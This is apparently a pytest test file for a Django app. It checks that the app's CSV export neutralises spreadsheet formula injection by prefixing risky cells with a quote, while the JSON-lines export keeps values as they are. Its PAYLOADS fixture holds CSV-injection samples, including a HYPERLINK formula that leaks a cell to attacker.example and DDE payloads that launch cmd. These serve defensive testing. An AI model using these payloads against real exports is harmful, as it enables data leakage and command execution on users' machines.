"""The CSV export never hands a spreadsheet a formula (CSV injection, OWASP).

A text cell that starts with =, +, -, @, a tab or a carriage return is written with a leading single
quote, which spreadsheets show as text. That holds for every text cell, free text with a leading
"-" included: the export has no negative numbers. The JSON lines export, read by programs, keeps
every value as it is.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from integrations import history
from integrations.permissions import AUDITORS
from tests.factories import make_request, make_target, make_user

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "=": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def auditor_client(client, db):
    client.force_login(make_user("auditor", groups=(AUDITORS,)))
    return client


def exported(client, fmt: str) -> list[dict]:
    response = client.get(f"/requests/export.{fmt}")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text, newline="")))
    return [json.loads(line) for line in text.splitlines()]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_rejection_reason_that_would_be_a_formula_is_written_as_text(auditor_client, payload):
    make_request(status="rejected", error_code="Rejected", error_message=payload)

    [row] = exported(auditor_client, "csv")

    assert row["error_message"] == "'" + payload
    assert row["error_code"] == "Rejected"


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_names_that_would_be_formulas_are_written_as_text(auditor_client, payload):
    make_request(user=make_user(payload), target=make_target(payload), resource_id=payload)

    [row] = exported(auditor_client, "csv")

    assert (row["user"], row["target"], row["resource_id"]) == ("'" + payload,) * 3


def test_the_name_recorded_at_submission_is_neutralised_too(auditor_client):
    make_request(created_by_username="@SUM(1+1)")

    [row] = exported(auditor_client, "csv")

    assert row["user"] == "'@SUM(1+1)"


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_json_lines_export_keeps_every_value_as_it_is(auditor_client, payload):
    make_request(user=make_user(payload), target=make_target(payload), error_message=payload)

    [row] = exported(auditor_client, "jsonl")

    assert (row["user"], row["target"], row["error_message"]) == (payload,) * 3


def test_ordinary_values_are_unchanged(auditor_client):
    aws_request = make_request(
        user=make_user("ada.lovelace@example.com"),
        target=make_target("prod-eu"),
        error_code="ValidationException",
        error_message="Value at 'tenantId' failed: must be 1-512 characters = wrong; use a + or @ inside",
        resource_id="arn:aws:appfabric:us-east-1:111122223333:appbundle/abc/ingestion/def",
    )

    [row] = exported(auditor_client, "csv")

    assert row == {
        **row,
        "id": str(aws_request.pk),
        "user": "ada.lovelace@example.com",
        "target": "prod-eu",
        "error_code": "ValidationException",
        "error_message": "Value at 'tenantId' failed: must be 1-512 characters = wrong; use a + or @ inside",
        "resource_id": "arn:aws:appfabric:us-east-1:111122223333:appbundle/abc/ingestion/def",
        "parameters": json.dumps(aws_request.parameters, sort_keys=True),
    }
    assert not any(value.startswith("'") for value in row.values())


def test_parameters_are_json_and_never_start_a_formula(auditor_client):
    make_request(parameters={"app": "=cmd", "tenantId": "-1"})

    [row] = exported(auditor_client, "csv")

    assert json.loads(row["parameters"]) == {"app": "=cmd", "tenantId": "-1"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # a leading "-" in text is neutralised: the export has no negative numbers
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("", ""),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        (42, 42),
        (-1, -1),  # numbers are not text: never touched
        (None, None),
    ],
)
def test_neutralise_formula(value, written):
    assert history.neutralise_formula(value) == written
